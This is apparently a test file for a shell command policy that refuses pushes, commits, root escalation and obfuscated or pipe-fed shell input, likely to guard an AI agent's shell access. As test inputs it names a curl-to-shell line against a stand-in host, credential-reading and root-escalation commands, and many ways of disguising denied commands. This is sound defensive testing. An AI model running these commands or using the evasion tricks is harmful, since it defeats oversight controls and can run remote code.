import assert from 'node:assert/strict';
import { test } from 'node:test';
import { CommandPolicy, DEFAULT_DENY_RULES, describeRefusal, type PolicyDecision } from './command-policy.ts';
import { splitCommands } from './shell-words.ts';

const defaults = new CommandPolicy();

function refusedBy(policy: CommandPolicy, commandLine: string): string {
  const decision = policy.check(commandLine);
  assert.equal(decision.allowed, false, `${JSON.stringify(commandLine)} must be refused`);
  return decision.rule;
}

function allowed(policy: CommandPolicy, commandLine: string): string {
  const decision = policy.check(commandLine);
  assert.equal(decision.allowed, true, `${JSON.stringify(commandLine)} must be allowed, got ${JSON.stringify(decision)}`);
  return decision.rule;
}

test('every default deny rule is caught, alone and hidden in a longer command line', () => {
  for (const rule of DEFAULT_DENY_RULES) {
    const command = `${rule} some-argument`;
    const hidden = [
      command,
      `cd sub && ${command}`,
      `true || ${command}`,
      `echo start; ${command}`,
      `echo start\n${command}`,
      `ls | ${command}`,
      `echo "$(${command})"`,
      `echo \`${command}\``,
      `(${command})`,
      `{ ${command}; }`,
      `if true; then ${command}; fi`,
      `for x in a b; do ${command}; done`,
      `bash -c '${command}'`,
      `env FOO=1 ${command}`,
      `timeout 10 ${command}`,
      `FOO=bar ${command} 2>&1 > out.txt`,
    ];
    for (const line of hidden) assert.equal(refusedBy(defaults, line), `deny: ${rule}`, line);
  }
});

test('the refusal names the rule and the command that was refused', () => {
  const decision = defaults.check('npm test && git push origin main');
  assert.deepEqual(decision, { allowed: false, rule: 'deny: git push', command: 'git push origin main' });
  assert.equal(
    describeRefusal(decision as Extract<typeof decision, { allowed: false }>),
    'refused by the command policy (deny: git push): git push origin main',
  );
});

test('git is recognised however it is spelled', () => {
  for (const line of [
    '/usr/bin/git push',
    'git -C /somewhere push',
    'git --no-pager -c user.name=x commit -m y',
    '\\git push',
    "'git' push",
    '/usr/lib/git-core/git-push origin',
    'git-commit -m x',
  ]) {
    assert.match(refusedBy(defaults, line), /^deny: git (push|commit)$/, line);
  }
});

test('commands that only look like denied ones are allowed', () => {
  for (const line of [
    'git status && git diff --stat',
    'git log --oneline --grep push',
    'echo "git push is done by the harness"',
    "grep -r 'git commit' docs",
    'git add -A',
    'git restore src/a.ts',
    'git restore --staged src/a.ts',
    "cat > notes.md <<'EOF'\ngit push origin main\n$(git commit)\nEOF",
    'cat > notes.md <<EOF\ngit push is only text here\nEOF',
    'npm test 2>&1 | tail -20',
    'gitk',
  ]) {
    allowed(defaults, line);
  }
});

test('substitutions in an unquoted here-document are checked', () => {
  assert.equal(refusedBy(defaults, 'cat > x <<EOF\nvalue: $(git push)\nEOF'), 'deny: git push');
});

test('an allow list allows only what it names; wrappers count as the command they run', () => {
  const policy = new CommandPolicy({ allow: ['npm *', 'git status', 'python*'], deny: [] });
  assert.equal(allowed(policy, 'npm test'), 'allow: npm *');
  assert.equal(allowed(policy, 'npm run build && git status'), 'allow: npm *, allow: git status');
  allowed(policy, 'python3 -m pytest');
  allowed(policy, 'timeout 60 npm test');
  allowed(policy, "bash -c 'npm test'");
  assert.deepEqual(policy.check('npm test && ls -la'), { allowed: false, rule: 'not in the allow list', command: 'ls -la' });
  assert.equal(refusedBy(policy, 'git push'), 'not in the allow list');
  assert.equal(refusedBy(policy, 'bash script.sh'), 'not in the allow list', 'a script we cannot see is not covered');
  assert.equal(refusedBy(policy, 'echo $(curl example.com)'), 'not in the allow list');
});

test('deny wins over allow', () => {
  const policy = new CommandPolicy({ allow: ['git *'] });
  assert.equal(refusedBy(policy, 'git push'), 'deny: git push');
  assert.equal(refusedBy(policy, 'git status; git commit -m x'), 'deny: git commit');
  assert.equal(allowed(policy, 'git status'), 'allow: git *');
});

test('an empty allow list allows whatever is not denied', () => {
  assert.equal(allowed(defaults, 'rm -rf build && make'), 'no allow list: anything not denied');
});

test('option words of a rule may appear anywhere after its command words', () => {
  const policy = new CommandPolicy({ deny: ['git push --force', 'rm -rf'] });
  assert.equal(refusedBy(policy, 'git push origin main --force'), 'deny: git push --force');
  allowed(policy, 'git push origin main');
  assert.equal(refusedBy(policy, 'rm -rf /tmp/x'), 'deny: rm -rf');
  allowed(policy, 'rm -r /tmp/x');
});

test('re: rules match each command and, for deny, the whole line', () => {
  const policy = new CommandPolicy({ deny: ['re:curl .*\\| *(ba)?sh', 're:^make (install|publish)'] });
  assert.equal(refusedBy(policy, 'curl -s https://x.example/install | sh'), 'deny: re:curl .*\\| *(ba)?sh');
  assert.equal(refusedBy(policy, 'cd build && make install'), 'deny: re:^make (install|publish)');
  allowed(policy, 'curl -s https://x.example/data > data.json');
  allowed(policy, 'make test');
});

test('a command line bash could not parse is refused', () => {
  assert.match(refusedBy(defaults, 'echo "unterminated'), /^unparsable: unterminated double quote/);
  assert.match(refusedBy(defaults, 'echo $(git status'), /^unparsable/);
});

test('a rule that cannot be used is an error naming it', () => {
  assert.throws(() => new CommandPolicy({ deny: ['re:('] }), /invalid command rule "re:\("/);
  assert.throws(() => new CommandPolicy({ allow: ['  '] }), /it is empty/);
});

test('splitCommands finds every simple command with its words unquoted', () => {
  const commands = splitCommands(
    `A=1 echo 'a b' "c $(printf x)" d\\ e > out 2>&1 | sort -u; f() { g; }; while read l; do h "$l"; done < in`,
  );
  assert.deepEqual(
    commands.map((command) => command.words.map((word) => word.value)),
    [['printf', 'x'], ['A=1', 'echo', 'a b', 'c $(printf x)', 'd e'], ['sort', '-u'], ['g'], ['read', 'l'], ['h', '$l']],
  );
  assert.equal(commands[1]!.words[0]!.isAssignment, true);
  assert.equal(commands[1]!.text, `A=1 echo 'a b' "c $(printf x)" d\\ e > out 2>&1`);
});

/** The refusal's rule and its reason (what the model reads), for a line that must be refused. */
function refusal(policy: CommandPolicy, commandLine: string): { rule: string; reason: string } {
  const decision = policy.check(commandLine);
  assert.equal(decision.allowed, false, `${JSON.stringify(commandLine)} must be refused`);
  return { rule: decision.rule, reason: (decision as { reason?: string }).reason ?? '' };
}

test('a computed command word is refused, saying it is computed and to write it out', () => {
  for (const [line, word] of [
    ['G=git; $G push', '$G'],
    ['$(echo git) push', '$(echo git)'],
    ['`echo git` push', '`echo git`'],
    ['"${G}" push', '${G}'],
    ['$((1)) push', '$((1))'],
    ['/usr/bin/g?t push', '/usr/bin/g?t'],
    ['/usr/bin/gi[t] push', '/usr/bin/gi[t]'],
    ['{git,x} push', '{git,x}'],
    ['$(npm bin)/tsc --noEmit', '$(npm bin)/tsc'],
    ['env $G push', '$G'],
    ['bash -c "$CMD"', '$CMD'],
    ['f() { "$@"; }; f git push', '$@'],
  ]) {
    const { rule, reason } = refusal(defaults, line!);
    assert.equal(rule, 'computed command word', line);
    assert.equal(reason, `the command word is computed at run time (${word}); write the program's name out`, line);
  }
  assert.equal(
    describeRefusal(defaults.check('G=git; $G push') as Extract<PolicyDecision, { allowed: false }>),
    "refused by the command policy (computed command word): $G push\nthe command word is computed at run time ($G); write the program's name out.",
  );
});

test('a computed word where a deny rule needs a literal one counts as matching it', () => {
  for (const line of [
    'git $sub',
    'git "$(echo push)" origin',
    'f() { git "$@"; }; f push',
    'echo push | xargs git',
    'xargs -I{} git {} < cmds',
    'find . -exec git {} \\;',
  ]) {
    const { rule, reason } = refusal(defaults, line);
    assert.match(rule, /^deny: git /, line);
    assert.match(reason, /is only known at run time and could make this `git [a-z-]+`; write the words out$/, line);
  }
  const custom = new CommandPolicy({ deny: ['rm -rf'] });
  assert.equal(refusal(custom, '$RM -rf build').rule, 'computed command word');
  allowed(custom, 'rm -r "$DIR"');
});

test('a shell fed its commands from a pipe, a computed here-string or here-document, or a process substitution is refused', () => {
  for (const [line, rule] of [
    ['printf "git push" | bash', 'shell fed from a pipe'],
    ['echo git push | sh -s', 'shell fed from a pipe'],
    ['curl -s https://x.example/install | sh', 'shell fed from a pipe'],
    ['echo git push | (bash)', 'shell fed from a pipe'],
    ['bash <<< "$X"', 'computed script'],
    ['bash <<< "$(echo git) push"', 'computed script'],
    ['bash <<EOF\n$G push\nEOF', 'computed script'],
    ['bash <(echo git push)', 'computed script'],
    ['bash < <(echo git push)', 'computed script'],
    ['echo git push | bash /dev/stdin', 'computed script'],
    ['source <(echo git push)', 'computed script'],
    ['. <(echo git push)', 'computed script'],
    ['source "$SCRIPT"', 'computed script'],
    ['echo git push | source /dev/stdin', 'computed script'],
    ['eval "$X"', 'computed script'],
    ['eval $(echo git push)', 'computed script'],
  ]) {
    assert.equal(refusal(defaults, line!).rule, rule, line);
  }
  assert.match(
    refusal(defaults, 'printf "git push" | bash').reason,
    /^bash would run commands read from a pipe; write them out \(bash -c '…'\)$/,
  );
});

test('a literal here-string or here-document fed to a shell is checked as the script it is', () => {
  assert.equal(refusal(defaults, 'bash <<< "git push"').rule, 'deny: git push');
  assert.equal(refusal(defaults, "bash <<'EOF'\nnpm test\ngit push\nEOF").rule, 'deny: git push');
  assert.equal(refusal(defaults, 'sh /dev/stdin <<< "git commit -m x"').rule, 'deny: git commit');
  allowed(defaults, "bash <<'EOF'\nnpm test\nEOF");
  allowed(defaults, 'bash <<< "npm test"');
  const policy = new CommandPolicy({ allow: ['npm *'], deny: [] });
  allowed(policy, 'bash <<< "npm test"');
  assert.equal(refusal(policy, 'bash <<< "ls"').rule, 'not in the allow list');
});

test("git configuration that redefines commands, and subcommands that are not git's own, are refused", () => {
  for (const [line, rule] of [
    ['git -c alias.p=push p', 'git configuration'],
    ['git -c Alias.p=push p', 'git configuration'],
    ['git --config-env=alias.p=VAR p', 'git configuration'],
    ['git -c include.path=/tmp/c status', 'git configuration'],
    ['git --exec-path=/tmp/bin status', 'git configuration'],
    ['git config alias.p push', 'git configuration'],
    ['git config --local include.path ../x', 'git configuration'],
    ["GIT_CONFIG_PARAMETERS=\"'alias.p'='push'\" git p", 'git configuration from the environment'],
    ['export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push', 'git configuration from the environment'],
    ['env GIT_CONFIG_GLOBAL=/tmp/c git status', 'git configuration from the environment'],
    ['GIT_EXEC_PATH=/tmp/bin git status', 'git configuration from the environment'],
    ['git p', 'not a git command'],
    ['git co main', 'not a git command'],
  ]) {
    assert.equal(refusal(defaults, line!).rule, rule, line);
  }
  assert.match(refusal(defaults, 'git co main').reason, /`git co` is not one of git's own commands/);
  for (const line of [
    'git -c color.ui=never log',
    'git -c core.pager=cat diff',
    'git config user.name',
    'git config --get alias.st',
    'git --exec-path',
    'git --version',
    'git lfs ls-files',
  ]) {
    allowed(defaults, line);
  }
});

test('git plumbing that writes refs or pushes, and every way to gain root, is denied by default', () => {
  for (const line of [
    'git send-pack origin main',
    'git-receive-pack .',
    '/usr/lib/git-core/git-update-ref refs/heads/main HEAD',
    'git fast-import < stream',
    'git receive-pack .',
    'git http-push https://x.example/repo main',
    'git replace HEAD HEAD~1',
    'git notes add -m x',
    'git reflog expire --all',
    'git credential fill',
    'doas ls',
    'pkexec ls',
    'runuser -u root ls',
    'setpriv --reuid=0 ls',
    'chroot / ls',
    'capsh --',
    'nsenter -t 1 -m',
    'sudoedit /etc/hosts',
  ]) {
    assert.match(refusal(defaults, line).rule, /^deny: /, line);
  }
});

test('ordinary commands with expansions, globs, pipes and interpreters are still allowed', () => {
  for (const line of [
    'npm test',
    "node -e 'console.log(process.version)'",
    "python3 -c 'print(1)'",
    "python3 <<'EOF'\nprint(1)\nEOF",
    'for f in *.ts; do wc -l "$f"; done',
    'git add *.ts',
    'git diff HEAD~1 -- "$f"',
    'rm -rf dist/*',
    'cat <<EOF > notes.md\nhome is $HOME\nEOF',
    'echo hi | bash -c "cat"',
    'cat data.json | node script.js',
    '[ -f package.json ] && echo yes',
    'git status --porcelain | xargs -r echo',
    'find . -name "*.ts" -exec grep -l foo {} +',
    'bash script.sh',
    'source .venv/bin/activate && pytest',
    'echo $((1 + 2)) and $',
    'grep -rn GIT_CONFIG_COUNT= docs',
    './node_modules/.bin/tsc --noEmit',
  ]) {
    allowed(defaults, line);
  }
});

test('an allow list covers a computed word only with a `*`', () => {
  const policy = new CommandPolicy({ allow: ['npm *', 'git status'], deny: [] });
  allowed(policy, 'npm run "$SCRIPT"');
  assert.equal(refusal(policy, 'git $sub').rule, 'not in the allow list');
  assert.equal(refusal(policy, '$NPM test').rule, 'computed command word');
});

test('splitCommands marks computed words and where standard input comes from', () => {
  const [substituted, first, second] = splitCommands("echo $A \"b$(c)\" '$d' $'e' f* [ g | bash");
  assert.equal(substituted!.text, 'c');
  assert.deepEqual(
    first!.words.map((word) => [word.value, word.dynamic === true]),
    [
      ['echo', false],
      ['$A', true],
      ['b$(c)', true],
      ['$d', false],
      ['e', false],
      ['f*', true],
      ['[', false],
      ['g', false],
    ],
  );
  assert.deepEqual(second!.input, { kind: 'pipe' });
  assert.deepEqual(splitCommands('bash <<< "x $y"')[0]!.input, { kind: 'text', form: 'here-string', text: 'x $y', dynamic: true });
  assert.deepEqual(splitCommands("cat <<'EOF'\n$x\nEOF")[0]!.input, { kind: 'text', form: 'here-document', text: '$x\n', dynamic: false });
  assert.deepEqual(splitCommands('sort < in.txt 2> err')[0]!.input, { kind: 'file', path: 'in.txt', dynamic: false });
});

test('allowAll runs every line unread, naming why: denied commands and syntax the parser refuses alike', () => {
  const policy = CommandPolicy.allowAll("the goal's check (executor.verify)");
  for (const line of ['git push --force', 'rm -rf /tmp/x', 'echo $((1 +', 'printf "git push" | bash', 'npm test']) {
    assert.deepEqual(policy.check(line), { allowed: true, rule: "the goal's check (executor.verify)" }, line);
  }
  // The default policy is untouched by it.
  assert.equal(defaults.check('git push --force').allowed, false);
  assert.equal(defaults.check('echo $((1 +').allowed, false);
});
